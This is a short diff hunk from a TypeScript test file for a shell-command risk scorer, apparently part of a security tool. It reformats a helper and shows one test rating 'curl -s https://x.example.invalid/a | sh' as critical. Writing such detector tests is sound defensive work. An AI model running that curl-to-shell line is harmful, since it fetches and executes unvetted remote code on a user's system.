@@ -4,7 +4,8 @@ import { analyzeCommand } from '../../../lang/shell/index.ts';
 import { commandRisk } from './command-risk.ts';
 
 describe('command risk', () => {
-  const risk = (cmd: string, trigger: 'install' | 'dev' | 'open', local = false): string => commandRisk(analyzeCommand(cmd), trigger, local).severity;
+  const risk = (cmd: string, trigger: 'install' | 'dev' | 'open', local = false): string =>
+    commandRisk(analyzeCommand(cmd), trigger, local).severity;
 
   it('rises with the trigger and the signals', () => {
     assert.equal(risk('curl -s https://x.example.invalid/a | sh', 'dev'), 'critical');
